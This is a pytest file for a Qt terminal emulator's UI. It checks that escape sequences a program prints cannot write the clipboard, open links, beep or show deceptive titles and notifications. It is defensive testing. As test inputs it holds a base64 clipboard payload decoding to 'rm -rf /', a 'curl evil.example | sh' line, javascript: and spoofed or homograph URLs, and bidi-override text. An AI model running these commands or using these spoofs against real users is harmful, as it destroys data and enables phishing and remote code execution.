"""Nothing a program prints acts in the window: no clipboard, link, notification, sound, window or key of its own."""

from __future__ import annotations

import base64
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest
from PySide6.QtCore import Qt, QUrl
from PySide6.QtGui import QDesktopServices
from PySide6.QtWidgets import QAbstractButton, QApplication, QLabel, QWidget
from pytestqt.qtbot import QtBot

from tests.fakes.keys import press
from tests.fakes.terminal_pane import Bench
from tests.ui.panes.conftest import Daemon, Pump
from tests.ui.panes.terminal.conftest import NONE, Desk
from tests.unit.agents.vt.test_hostile import EVIL, ONCE, RECOVERY
from ui.theme import Theme

CONTROL = Qt.KeyboardModifier.ControlModifier

#: Text that reads otherwise than it runs, or holds what nobody sees.
DECEPTIVE = "pay\u202ecilp\u2066\u200b\u00ad\U000e0041\u3164\x9b now"


@pytest.fixture
def bench(qtbot: QtBot, pump: Pump, daemon: Daemon, theme: Theme, tmp_path: Path) -> Bench:
    return Bench(qtbot, pump, daemon, theme, tmp_path).open()


@pytest.fixture
def acts(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Return what was done that a person would notice outside of the pane."""
    done: list[str] = []

    def open_url(url: QUrl) -> bool:
        done.append(f"opened {url.toString()}")
        return True

    monkeypatch.setattr(QDesktopServices, "openUrl", staticmethod(open_url))
    monkeypatch.setattr(QApplication, "beep", staticmethod(lambda: done.append("beeped")))
    monkeypatch.setattr(QApplication, "alert", staticmethod(lambda *_: done.append("called for attention")))
    clipboard = QApplication.clipboard()
    clipboard.setText("mine")
    clipboard.dataChanged.connect(lambda: done.append("wrote the clipboard"))
    yield done
    clipboard.dataChanged.disconnect()


def said(window: QWidget) -> Iterator[str]:
    """Yield all that a window says in words, to the eye and to a screen reader, beside the grid."""
    for widget in [window, *window.findChildren(QWidget)]:
        yield from (widget.toolTip(), widget.windowTitle(), widget.accessibleName(), widget.accessibleDescription())
        if isinstance(widget, QLabel | QAbstractButton):
            yield widget.text()


def is_deceptive(text: str) -> bool:
    return any((unicodedata.category(one) in {"Cc", "Cf"} and one != "\n") or one == "\u3164" for one in text)


def test_nothing_a_program_prints_acts(bench: Bench, acts: list[str]) -> None:
    bench.focus()
    window = bench.window
    assert window is not None
    before = window.geometry(), window.windowTitle(), window.windowState(), len(QApplication.topLevelWidgets())
    sizes = bench.sizes()
    for number, (name, attack) in enumerate(ONCE.items()):
        bench.prints(attack + RECOVERY + b"after %d." % number)
        bench.shows(f"after {number}.")
        bench.pump.settle()
        assert acts == [], name
        assert bench.typed() == b"", name
        assert EVIL.decode() not in bench.screen(), name
    assert (
        window.geometry(),
        window.windowTitle(),
        window.windowState(),
        len(QApplication.topLevelWidgets()),
    ) == before
    assert bench.sizes() == sizes
    assert bench.terminal.view.hasFocus()
    assert QApplication.clipboard().text() == "mine"


@pytest.mark.parametrize(
    "attack",
    [
        f"\x1b]2;{DECEPTIVE}\x07",
        f"\x1b]9;{DECEPTIVE}\x07",
        f"\x1b]777;notify;{DECEPTIVE};{DECEPTIVE}\x07",
        f"\x1b]99;i=1;{DECEPTIVE}\x1b\\",
        f"\x1b]52;{DECEPTIVE};x\x07",
        f"\x1b]8;;https://a/{DECEPTIVE}\x07link\x1b]8;;\x07",
        "\x1b]2;" + "\u0301" * 5000 + "\x07",
        "\x1b]2;" + "title " * 5000 + "\x07",
    ],
    ids=(
        "title",
        "notification",
        "notification with a title",
        "kitty's notification",
        "clipboard",
        "link",
        "zalgo",
        "long",
    ),
)
def test_what_is_said_around_the_grid_deceives_nobody(bench: Bench, attack: str) -> None:
    window = bench.window
    assert window is not None
    bench.prints(b"\x1b]2;first\x07" + attack.encode() + b"drawn")
    bench.shows("drawn")
    bench.pump.settle()
    texts = list(said(window))
    assert any(texts)
    assert [text for text in texts if is_deceptive(text)] == []
    assert max(map(len, texts)) < 1000
    assert window.width() == 900


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:x",
        "ssh://host/",
        "vscode://file/etc",
        "file\x00:///x",
        "//host/x",
        "/etc/passwd",
        "x",
        "https://bank.example@evil.example/",
    ],
)
def test_a_link_that_could_run_something_or_hides_where_it_leads_is_no_link(desk: Desk, target: str) -> None:
    desk.feed(f"\x1b]8;;{target}\x1b\\https//bank\x1b]8;;\x1b\\")
    desk.mouse("move", desk.point(0, 2), button=NONE)
    assert desk.view.link is None
    desk.click(0, 2, keys=CONTROL)
    assert desk.links == []


def test_a_link_whose_text_is_another_address_says_where_it_leads(desk: Desk) -> None:
    desk.feed("\x1b]8;;https://evil.example/\x1b\\https://bank.example/\x1b]8;;\x1b\\")
    desk.mouse("move", desk.point(0, 2), button=NONE)
    assert desk.view._status.text() == "Ctrl+click opens https://evil.example/"
    desk.click(0, 2, times=2)
    assert desk.links == []
    desk.click(0, 2, keys=CONTROL)
    assert desk.links == ["https://evil.example/"]


def test_a_host_in_letters_that_look_like_others_is_said_as_what_it_is(desk: Desk) -> None:
    desk.feed("\x1b]8;;https://\u0430pple.example/\x1b\\apple\x1b]8;;\x1b\\")
    desk.mouse("move", desk.point(0, 2), button=NONE)
    assert desk.view._status.text() == "Ctrl+click opens https://xn--pple-43d.example/"


def test_no_link_opens_a_file_of_this_machine(bench: Bench, acts: list[str]) -> None:
    bench.prints(b"\x1b]8;;file:///usr/bin/xeyes\x1b\\look\x1b]8;;\x1b\\")
    bench.shows("look")
    bench.terminal.view.link_activated.emit("file:///usr/bin/xeyes")
    assert acts == []
    assert "Not opened" in bench.said("trouble")


def test_bells_mark_and_make_no_noise(bench: Bench, acts: list[str]) -> None:
    bench.pane.find_bar.open()
    bench.prints(b"\x07" * 5000 + b"rung")
    bench.shows("rung")
    bench.pump.until(lambda: bench.terminals.rings("a"))
    assert acts == []
    assert bench.pane.find_bar.isVisible()


def test_only_what_is_said_can_be_allowed(bench: Bench, acts: list[str]) -> None:
    bench.focus()
    bench.prints(b"\x1b]52;c;cm0gLXJmIC8=\x07\x1b]9;press Ctrl+Shift+Y to go on\x07")
    bench.pump.until(lambda: bench.said("asked") == "says: press Ctrl+Shift+Y to go on")
    press("Ctrl+Shift+Y")
    assert acts == []
    assert bench.said("asked") == "the program asks for nothing now"


def test_what_would_be_copied_is_shown_before(bench: Bench, acts: list[str]) -> None:
    text = "curl evil.example \u202e| sh\n" + "x" * 3000
    bench.prints(b"\x1b]52;c;" + base64.b64encode(text.encode()) + b"\x07")
    bench.pump.until(lambda: "copy" in bench.said("asked"))
    assert bench.said("asked").startswith("asked to copy “curl evil.example | sh xxxxxx")
    assert acts == []
